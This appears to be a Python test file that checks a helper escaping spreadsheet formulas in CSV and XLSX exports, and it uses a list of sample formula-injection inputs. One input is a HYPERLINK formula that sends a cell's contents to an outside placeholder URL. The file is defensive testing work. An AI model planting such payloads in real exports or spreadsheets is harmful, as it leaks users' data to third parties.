"""The one formula escape every export uses (issue 10: registration exports wrote
=HYPERLINK(…) names as live formulas)."""

import io

import pytest
from openpyxl import Workbook, load_workbook

from teilhabe.documents import cells

ATTACKS = ['=HYPERLINK("http://example.org/?"&A1;"Klick")', "+1+1", "-2+3", "@SUM(A1)", "\t=1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_text_is_escaped_and_read_back_as_typed(text):
    escaped = cells.escape_formula(text)
    assert escaped == "'" + text
    assert cells.unescape_formula(escaped) == text


@pytest.mark.parametrize("text", ["Ayşe Yılmaz", "Sprachcafé – offen", "'Zitat'", ""])
def test_ordinary_text_is_left_alone(text):
    assert cells.escape_formula(text) == text
    assert cells.unescape_formula(text) == text


def test_csv_rows_are_escaped_with_semicolons_and_a_byte_order_mark():
    data = cells.write_csv(["Name", "=Kopf"], [[ATTACKS[0], 3], [None, "x"]])
    assert data.startswith(b"\xef\xbb\xbf")
    lines = data.decode("utf-8-sig").splitlines()
    assert lines[0] == "Name;'=Kopf"
    assert lines[1].startswith("\"'=HYPERLINK(") and lines[1].endswith(";3")
    assert lines[2] == ";x"


def test_xlsx_cells_stay_text_exactly_as_typed():
    workbook = Workbook(write_only=True)
    sheet = workbook.create_sheet("Test")
    sheet.append([cells.xlsx_value(sheet, value) for value in [*ATTACKS, "Text", 4]])
    buffer = io.BytesIO()
    workbook.save(buffer)
    row = next(load_workbook(io.BytesIO(buffer.getvalue()))["Test"].iter_rows())
    assert [cell.data_type for cell in row[: len(ATTACKS)]] == ["s"] * len(ATTACKS)
    assert [cell.value for cell in row] == [*ATTACKS, "Text", 4]
